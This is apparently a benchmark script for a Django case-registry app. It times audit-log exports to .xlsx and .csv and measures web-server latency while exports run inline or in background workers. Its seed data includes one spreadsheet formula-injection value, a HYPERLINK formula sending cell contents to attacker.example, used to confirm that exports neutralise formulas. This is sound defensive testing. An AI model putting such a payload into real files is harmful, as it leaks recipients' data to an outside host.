"""Audit-trail export of 100,000 events, and the web server while exports run.

Set-up (not timed): the Sóc Sơn registry, users, an auditor, BENCH_CASES
cases and BENCH_EVENTS events (INSERT ... SELECT generate_series), with
reasons, a few of them hostile (`=HYPERLINK(...)`), and data on some.

Timed, same run, as the auditor (who sees every event):
1. `cases.audit_export.write_xlsx` of all the events (the file the worker
   builds: labels, formula-safe cells, real datetimes), and the .csv;
2. baseline: raw SQL of the same rows and columns (no labels) written with
   the csv module;
3. the naive way, for scale: openpyxl's write-only mode fed the same rows
   (BENCH_NAIVE_ROWS of them).
Target: the .xlsx of 100,000 events <= 10 s.

Then the web server: gunicorn with 2 workers on 127.0.0.1 and BENCH_GETS
timed GETs of a small page (the user's export list) while two exports of all
the events run:
- baseline, the old way: both exports answered inline (EXPORT_INLINE_MAX_ROWS
  above the size), which holds both workers;
- now: both exports queued and built by two `manage.py run_exports` workers.
Target: no GET over 2 s while two exports run.

    DJANGO_SETTINGS_MODULE=config.settings PYTHONPATH=. .venv/bin/python bench/bench_exports.py
"""

from __future__ import annotations

import csv
import http.cookiejar
import io
import os
import signal
import socket
import subprocess
import sys
import tempfile
import threading
import time
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit, urlunsplit

from bench.common import (
    env_int,
    environment_line,
    insert_series,
    make_users,
    reset_sequence,
    seed_registry,
    table,
    throwaway_database,
)

EVENTS = env_int("BENCH_EVENTS", 100_000)
CASES = env_int("BENCH_CASES", 5_000)
NAIVE_ROWS = env_int("BENCH_NAIVE_ROWS", 20_000)
GETS = env_int("BENCH_GETS", 40)
# The smoke run of tests/bench/test_bench_smoke.py: every knob above, tiny,
# and the lines (regular expressions) its output must contain.
SMOKE_ENV = {"BENCH_EVENTS": 300, "BENCH_CASES": 50, "BENCH_NAIVE_ROWS": 50, "BENCH_GETS": 3}
SMOKE_LINES = [
    r"^audit export \.xlsx \(write_xlsx\) +\d+ +\d+\.\d\d ",
    r"^audit export \.csv +\d+ +\d+\.\d\d",
    r"^baseline: raw SQL \+ csv module +\d+ +\d+\.\d\d",
    r"^naive: openpyxl write-only +\d+ +\d+\.\d\d",
    r"^GET while 2 exports run inline \(baseline\) +\d+ +\d+\.\d\d +\d+\.\d\d",
    r"^GET while 2 exports run in the background +\d+ +\d+\.\d\d +\d+\.\d\d",
]
ROOT = Path(__file__).resolve().parents[1]
TARGET_S = 10.0
TARGET_GET_S = 2.0
COMMUNE = "00448"
HOSTILE = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


# --- set-up -----------------------------------------------------------------------------


def fill(communes: list[int], actor_id: int, actor: str) -> None:
    from cases.models import Case, Person
    from workflows.models import AuditEvent

    commune = "(%(communes)s::bigint[])[1 + mod(g, %(k)s)]"
    params = {"communes": communes, "k": len(communes)}
    insert_series(
        Person,
        CASES,
        {
            "id": "g", "full_name": "'Người ' || g", "date_of_birth": "date '1970-01-01'",
            "sex": "'M'", "national_id": "'001070' || lpad(g::text, 6, '0')",
            "address": "'Thôn 1'", "commune_id": commune, "categories": "ARRAY[]::varchar[]",
            "merit_subtype": "''", "created_at": "now()",
        },
        params,
    )  # fmt: skip
    insert_series(
        Case,
        CASES,
        {
            "id": "g", "reference": "'HT-' || lpad(g::text, 7, '0')", "process": "'housing'",
            "commune_id": commune, "applicant_id": "g", "state": "'closed'",
            "created_by_id": str(actor_id), "created_at": "now()", "updated_at": "now()",
        },
        params,
    )  # fmt: skip
    base = AuditEvent.objects.order_by("-id").values_list("id", flat=True).first() or 0
    case_id = f"1 + mod(g, {CASES})"
    insert_series(
        AuditEvent,
        EVENTS,
        {
            "id": "g", "chain": "'commune:' || (" + commune.replace("g,", f"{case_id},") + ")",
            "seq": "g", "occurred_at": "now() - g * interval '1 minute'",
            "actor_id": str(actor_id), "actor_username": f"'{actor}'",
            "actor_role": "'commune_officer'",
            "commune_id": commune.replace("g,", f"{case_id},"),
            "case_id": f"CASE WHEN mod(g, 10) < 7 THEN {case_id} END",
            "object_type": "'cases.case'", "object_id": f"({case_id})::text",
            "event": "(ARRAY['transition','edit','document_upload','create'])[1 + mod(g, 4)]",
            "transition": "CASE WHEN mod(g, 4) = 0 THEN 'verify' ELSE '' END",
            "from_state": "CASE WHEN mod(g, 4) = 0 THEN 'submitted' ELSE '' END",
            "to_state": "CASE WHEN mod(g, 4) = 0 THEN 'commune_verified' ELSE '' END",
            "reason": "CASE WHEN mod(g, 97) = 0 THEN %(hostile)s "
            "WHEN mod(g, 3) = 0 THEN 'Thiếu giấy xác nhận của UBND xã' ELSE '' END",
            "data": "CASE WHEN mod(g, 5) = 0 THEN jsonb_build_object('amount', g * 1000) "
            "ELSE '{}'::jsonb END",
            "request_id": "''", "prev_hash": "repeat('0', 64)",
            "hash": "md5(g::text) || md5((g + 1)::text)",
        },
        {**params, "hostile": HOSTILE},
        start=base + 1,
    )  # fmt: skip
    reset_sequence(Person)
    reset_sequence(Case)
    reset_sequence(AuditEvent)


# --- in-process timings -------------------------------------------------------------------

RAW = """SELECT e.id, e.occurred_at, e.actor_username, e.actor_role, u.name, c.reference,
                c.process, e.object_type, e.event, e.transition, e.from_state, e.to_state,
                e.reason, e.data::text, e.chain, e.seq, e.ip, e.request_id, e.hash
           FROM workflows_auditevent e
           LEFT JOIN cases_case c ON c.id = e.case_id
           LEFT JOIN cases_administrativeunit u ON u.id = e.commune_id
          ORDER BY e.occurred_at DESC, e.id DESC LIMIT %s"""


def raw_csv(limit: int) -> tuple[float, int]:
    from django.db import connection, transaction

    out = io.StringIO()
    writer = csv.writer(out)
    t0 = time.perf_counter()
    with transaction.atomic(), connection.cursor() as cur:
        cur.execute(RAW, [limit])
        rows = 0
        while chunk := cur.fetchmany(2000):
            writer.writerows(chunk)
            rows += len(chunk)
    return time.perf_counter() - t0, rows


def naive_openpyxl(user: Any, n: int) -> tuple[float, int]:
    """openpyxl's write-only mode fed the export's own rows (the presenter's)."""
    from openpyxl import Workbook

    from cases.audit_export import _rows
    from workflows.audit_explorer import AuditFilters

    t0 = time.perf_counter()
    wb = Workbook(write_only=True)
    ws = wb.create_sheet("x")
    rows = 0
    for row in _rows(user, AuditFilters(), n):
        ws.append(["'" + v if isinstance(v, str) and v[:1] in "=+-@" else v for v in row])
        rows += 1
    wb.save(io.BytesIO())
    return time.perf_counter() - t0, rows


# --- the live server ------------------------------------------------------------------------


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def server_env(inline_max: int, media: str) -> dict[str, str]:
    from django.conf import settings

    # The URL in use, pointed at this run's throwaway database.
    parts = urlsplit(settings.DATABASE_URL)
    url = urlunsplit(parts._replace(path="/" + settings.DATABASES["default"]["NAME"]))
    env = {k: v for k, v in os.environ.items() if not k.startswith("BENCH_")}
    env.update(
        DATABASE_URL=url,
        DJANGO_SETTINGS_MODULE="config.settings",
        PYTHONPATH=str(ROOT),
        DEBUG="0",
        SECRET_KEY=settings.SECRET_KEY,  # the session below is signed with it
        ALLOWED_HOSTS="127.0.0.1",
        MEDIA_ROOT=media,
        EXPORT_INLINE_MAX_ROWS=str(inline_max),
    )
    return env


@contextmanager
def processes(commands: list[list[str]], env: dict[str, str]) -> Iterator[None]:
    procs = [
        subprocess.Popen(c, cwd=ROOT, env=env, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
        for c in commands
    ]
    try:
        yield
    finally:
        for p in procs:
            p.send_signal(signal.SIGTERM)
        for p in procs:
            try:
                p.wait(timeout=30)
            except subprocess.TimeoutExpired:
                p.kill()
                p.wait()


def session_cookie(user: Any) -> str:
    """A signed-in session for `user`, stored as the login page would leave it."""
    from django.conf import settings
    from django.contrib.auth import BACKEND_SESSION_KEY, HASH_SESSION_KEY, SESSION_KEY
    from django.contrib.sessions.backends.db import SessionStore

    store = SessionStore()
    store[SESSION_KEY] = str(user.pk)
    store[BACKEND_SESSION_KEY] = "django.contrib.auth.backends.ModelBackend"
    store[HASH_SESSION_KEY] = user.get_session_auth_hash()
    store.save()
    return f"{settings.SESSION_COOKIE_NAME}={store.session_key}"


def opener(cookie: str) -> urllib.request.OpenerDirector:
    class NoRedirect(urllib.request.HTTPRedirectHandler):
        def redirect_request(self, *args: Any, **kwargs: Any) -> None:
            return None

    o = urllib.request.build_opener(
        NoRedirect, urllib.request.HTTPCookieProcessor(http.cookiejar.CookieJar())
    )
    o.addheaders = [("Cookie", cookie), ("Accept-Language", "vi")]
    return o


def get(o: urllib.request.OpenerDirector, url: str, timeout: float = 600) -> tuple[int, bytes]:
    try:
        with o.open(url, timeout=timeout) as r:
            return r.status, r.read()
    except urllib.error.HTTPError as e:
        return e.code, e.read()


def wait_for(base: str, o: urllib.request.OpenerDirector) -> None:
    answer: Any = None
    for _ in range(300):
        try:
            answer = get(o, base + "/exports/", timeout=5)
            if answer[0] == 200:
                return
        except OSError as exc:
            answer = exc
        time.sleep(0.2)
    raise SystemExit(f"the server did not answer 200: {answer!r:.300}")


def gets_while(base: str, o: urllib.request.OpenerDirector, busy: Any) -> list[float]:
    """Time GETs of the export list while `busy()` is true, at least GETS of them."""
    times: list[float] = []
    while busy() or len(times) < GETS:
        t0 = time.perf_counter()
        status, _body = get(o, base + "/exports/")
        times.append(time.perf_counter() - t0)
        assert status == 200, status
        if len(times) >= GETS and not busy():
            break
        time.sleep(0.1)
    return times


def during_exports(
    user: Any, inline_max: int, media: str, background: bool
) -> tuple[list[float], float]:
    """GET timings while two .xlsx exports of every event run; and how long they took."""
    from cases.exports.models import ExportJob

    port = free_port()
    base = f"http://127.0.0.1:{port}"
    env = server_env(inline_max, media)
    py = sys.executable
    commands = [[py, "-m", "gunicorn", "config.wsgi", "-w", "2", "-b", f"127.0.0.1:{port}",
                 "--timeout", "600", "--log-level", "warning"]]  # fmt: skip
    if background:
        commands += [[py, "manage.py", "run_exports", "--poll", "0.2"]] * 2
    o = opener(session_cookie(user))
    with processes(commands, env):
        wait_for(base, o)
        before = set(ExportJob.objects.values_list("pk", flat=True))
        results: list[tuple[int, float]] = []

        def export() -> None:
            t0 = time.perf_counter()
            status, _ = get(opener(session_cookie(user)), base + "/audit/export/?fmt=xlsx")
            results.append((status, time.perf_counter() - t0))

        threads = [threading.Thread(target=export) for _ in range(2)]
        t0 = time.perf_counter()
        for t in threads:
            t.start()
        time.sleep(0.3)

        def busy() -> bool:
            if any(t.is_alive() for t in threads):
                return True
            jobs = ExportJob.objects.exclude(pk__in=before)
            return background and jobs.exclude(status__in=["done", "failed"]).exists()

        times = gets_while(base, o, busy)
        for t in threads:
            t.join()
        took = time.perf_counter() - t0
        if background:
            jobs = list(ExportJob.objects.exclude(pk__in=before))
            assert len(jobs) == 2 and all(j.status == "done" for j in jobs), jobs
            assert all(status == 302 for status, _ in results), results
        else:
            assert all(status == 200 for status, _ in results), results
    return times, took


def main() -> None:
    from django.db import connection

    from cases.audit_export import csv_lines, write_xlsx
    from cases.models import AdministrativeUnit
    from workflows.audit_explorer import EXPORT_CAP, AuditFilters
    from workflows.permissions import Role
    from workflows.services import role_grant

    print(environment_line())
    print(f"# BENCH_EVENTS={EVENTS}, BENCH_CASES={CASES}, BENCH_GETS={GETS}")
    t0 = time.perf_counter()
    seed_registry()
    users = make_users(COMMUNE)
    auditor = role_grant(
        actor=None, username="bench_auditor", role=Role.AUDITOR, password="bench-pw-123",
        full_name="Bench Auditor",
    )  # fmt: skip
    communes = list(
        AdministrativeUnit.objects.filter(level="commune")
        .order_by("code")
        .values_list("id", flat=True)
    )
    fill(communes, users.officer.pk, users.officer.username)
    with connection.cursor() as cur:
        cur.execute("VACUUM ANALYZE")
    print(f"# set-up in {time.perf_counter() - t0:.1f} s")
    filters = AuditFilters()

    t0 = time.perf_counter()
    out = io.BytesIO()
    xlsx_rows = write_xlsx(out, auditor, filters, EXPORT_CAP)
    xlsx_s = time.perf_counter() - t0
    from openpyxl import load_workbook

    if EVENTS <= 2000:  # a full read-back is slow; the tests check the cells
        ws = load_workbook(out).active
        assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    t0 = time.perf_counter()
    csv_bytes = sum(len(line) for line in csv_lines(auditor, filters, EXPORT_CAP))
    csv_s = time.perf_counter() - t0
    raw_s, raw_rows = raw_csv(xlsx_rows)
    naive_s, naive_rows = naive_openpyxl(auditor, min(NAIVE_ROWS, xlsx_rows))

    inline_max = max(10, min(5_000, xlsx_rows // 3))
    with tempfile.TemporaryDirectory(prefix="bench_exports_media_") as media:
        old_gets, old_took = during_exports(auditor, 10**9, media, background=False)
        new_gets, new_took = during_exports(auditor, inline_max, media, background=True)

    print()
    print(
        table(
            ["what", "rows", "seconds", "per 1,000 rows", "target"],
            [
                [
                    "audit export .xlsx (write_xlsx)",
                    xlsx_rows,
                    f"{xlsx_s:.2f}",
                    f"{xlsx_s / xlsx_rows * 1000:.3f}",
                    f"<= {TARGET_S:.0f} s at 100,000 {'OK' if xlsx_s <= TARGET_S else 'MISSED'}",
                ],
                [
                    "audit export .csv",
                    xlsx_rows,
                    f"{csv_s:.2f}",
                    f"{csv_s / xlsx_rows * 1000:.3f}",
                    f"{csv_bytes / 1048576:.1f} MB",
                ],
                [
                    "baseline: raw SQL + csv module",
                    raw_rows,
                    f"{raw_s:.2f}",
                    f"{raw_s / raw_rows * 1000:.3f}",
                    "no labels, no safety",
                ],
                [
                    "naive: openpyxl write-only",
                    naive_rows,
                    f"{naive_s:.2f}",
                    f"{naive_s / naive_rows * 1000:.3f}",
                    "same rows",
                ],
                ["ratio .xlsx / baseline", "", f"{xlsx_s / raw_s:.1f}x", "", ""],
            ],
        )  # fmt: skip
    )
    print()
    print(
        table(
            [
                "while two .xlsx exports of every event run",
                "GETs",
                "max s",
                "median s",
                "exports took s",
                "target",
            ],
            [
                [
                    "GET while 2 exports run inline (baseline)",
                    len(old_gets),
                    f"{max(old_gets):.2f}",
                    f"{sorted(old_gets)[len(old_gets) // 2]:.2f}",
                    f"{old_took:.1f}",
                    "",
                ],
                [
                    "GET while 2 exports run in the background",
                    len(new_gets),
                    f"{max(new_gets):.2f}",
                    f"{sorted(new_gets)[len(new_gets) // 2]:.2f}",
                    f"{new_took:.1f}",
                    f"<= {TARGET_GET_S:.0f} s "
                    + ("OK" if max(new_gets) <= TARGET_GET_S else "MISSED"),
                ],
            ],
        )  # fmt: skip
    )


if __name__ == "__main__":
    with throwaway_database("exports"):
        main()
